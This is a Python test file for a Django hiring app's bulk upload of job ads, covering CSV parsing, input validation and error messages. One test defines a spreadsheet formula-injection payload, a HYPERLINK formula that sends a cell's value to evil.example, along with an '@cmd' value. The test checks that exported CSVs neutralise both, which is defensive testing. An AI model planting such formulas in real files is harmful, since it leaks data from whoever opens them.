import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from hiring.models import BulkAnalysis
from tests.hiring.factories import DA_AD, SV_AD

EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"Åbn")'


def upload(name, content: str):
    return SimpleUploadedFile(name, content.encode())


def sheet(*rows) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def test_the_results_csv_shows_a_malicious_ad_name_as_text(client, recruiter, django_capture_on_commit_callbacks):
    client.force_login(recruiter)
    content = sheet(["name", "text"], [EVIL, DA_AD], ["@cmd", SV_AD])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    run = BulkAnalysis.objects.get()
    download = client.get(f"/hiring/bulk/{run.id}/results.csv").content.decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(download)))
    assert response.status_code == 302
    assert [row[0] for row in rows[1:]] == ["'" + EVIL, "'@cmd"]
    # Numbers stay numbers, including negative ones (the controller index runs from -100 to 100).
    index = rows[0].index("controller_index")
    assert all(-100 <= float(row[index]) <= 100 for row in rows[1:])  # float("'-3.0") would raise


def test_a_csv_row_without_text_is_refused_with_its_line_and_nothing_is_saved(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    content = "name,text\nAarhus," + '"' + DA_AD + '"' + "\nKolding\nOdense,\n"
    response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    assert response.status_code == 400
    body = response.content.decode()
    assert "ads.csv line 3: there is no text." in body
    assert "ads.csv line 4: there is no text." in body
    assert not BulkAnalysis.objects.exists()


def test_a_file_with_nul_characters_is_refused(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    response = client.post("/hiring/bulk/new/", {"files": [upload("ad.txt", "Vi søger\x00 dig")]})
    assert response.status_code == 400
    assert "ad.txt contains NUL characters; save it as plain text." in response.content.decode()
    assert not BulkAnalysis.objects.exists()


def test_it_refuses_a_csv_with_an_unclosed_quotation_mark_with_a_message_not_a_server_error(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    content = 'name,text\nAarhus,"' + DA_AD + " ord" * 40_000 + "\n"  # the quote is never closed
    response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    assert response.status_code == 400
    assert "ads.csv line 2: a cell is too long; is a quotation mark not closed?" in response.content.decode()
    assert not BulkAnalysis.objects.exists()


def test_it_reads_a_csv_saved_by_a_nordic_excel_with_semicolons(recruiter, db):
    client = Client(raise_request_exception=False)
    client.force_login(recruiter)
    content = "\ufeffname;text\nAarhus;" + DA_AD + "\nGöteborg;" + SV_AD + "\n"
    response = client.post("/hiring/bulk/new/", {"files": [upload("ads.csv", content)]})
    assert response.status_code == 302
    assert list(BulkAnalysis.objects.get().items.order_by("position").values_list("name", flat=True)) == [
        "Aarhus",
        "Göteborg",
    ]


def test_it_names_the_service_types_in_the_results_table_not_their_codes(
    client, recruiter, django_capture_on_commit_callbacks
):
    client.force_login(recruiter)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/hiring/bulk/new/", {"files": [upload("aarhus.txt", DA_AD)]})
    page = client.get(f"/hiring/bulk/{BulkAnalysis.objects.get().id}/").content.decode()
    assert '<th scope="col" class="type-hard_worker">Hard Worker</th>' in page
    assert ">hard_worker<" not in page and ">accommodator<" not in page
